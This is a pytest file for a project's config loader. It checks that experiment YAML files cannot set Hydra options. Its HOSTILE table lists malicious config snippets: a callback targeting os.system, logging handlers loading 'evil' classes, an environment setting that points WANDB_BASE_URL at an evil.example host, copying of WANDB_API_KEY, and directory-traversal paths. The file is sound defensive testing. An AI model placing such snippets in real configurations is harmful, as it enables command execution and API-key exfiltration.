"""What config files may not tell Hydra."""

from __future__ import annotations

from pathlib import Path

import pytest

from pamiq_exp.config import ConfigError, Source, compose

HOSTILE = {
    "hydra.callbacks": "callbacks: {evil: {_target_: os.system}}",
    "hydra.job_logging": "job_logging: {root: {handlers: [x]}, handlers: {x: {class: evil.Handler}}}",
    "hydra.hydra_logging": "hydra_logging: {handlers: {x: {(): evil.factory}}}",
    "hydra.job.env_set": "job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}",
    "hydra.job.env_copy": "job: {env_copy: [WANDB_API_KEY]}",
    "hydra.job.chdir": "job: {chdir: true}",
    "hydra.run.dir": "run: {dir: /tmp/anywhere}",
    "hydra.sweep.dir": "sweep: {dir: /tmp/anywhere}",
    "hydra.sweep.subdir": "sweep: {subdir: ../x}",
    "hydra.output_subdir": "output_subdir: ../..",
    "hydra.launcher": "launcher: {_target_: evil.Launcher}",
    "hydra.sweeper": "sweeper: {params: {seed: 'range(1000000000)'}}",
    "hydra.verbose": "verbose: true",
}


def folder_with(tmp_path: Path, hydra: str, package: str = "_global_") -> Source:
    (tmp_path / "experiment").mkdir(parents=True)
    text = f"hydra: {{{hydra}}}" if package == "_global_" else hydra
    header = "# @package _global_\n# Hostile.\ndefaults: [minimum, _self_]\n" if package == "_global_" else ""
    (tmp_path / "experiment" / "hostile.yaml").write_text(f"{header or f'# @package {package}'}\n{text}\n")
    return Source(folder=str(tmp_path))


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize("package", ["_global_", "hydra"])
def test_compose_refuses_hydra_settings_in_an_experiment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, package: str
) -> None:
    monkeypatch.setenv("WANDB_API_KEY", "secret-value")
    source = folder_with(tmp_path, HOSTILE[key], package)
    with pytest.raises(ConfigError) as refused:
        compose(["experiment=hostile"], source)
    errors = refused.value.errors
    assert key in {detail.key[: len(key)] for detail in errors}
    assert "secret-value" not in str(errors)
    assert "may not be set by a config file" in str(errors[0])


def test_compose_accepts_hydra_settings_on_the_command_line() -> None:
    words = ["experiment=minimum", "hydra.run.dir=/tmp/mine", "hydra.verbose=true", "hydra/job_logging=stdout"]
    assert compose(words).config.hydra.verbose is True
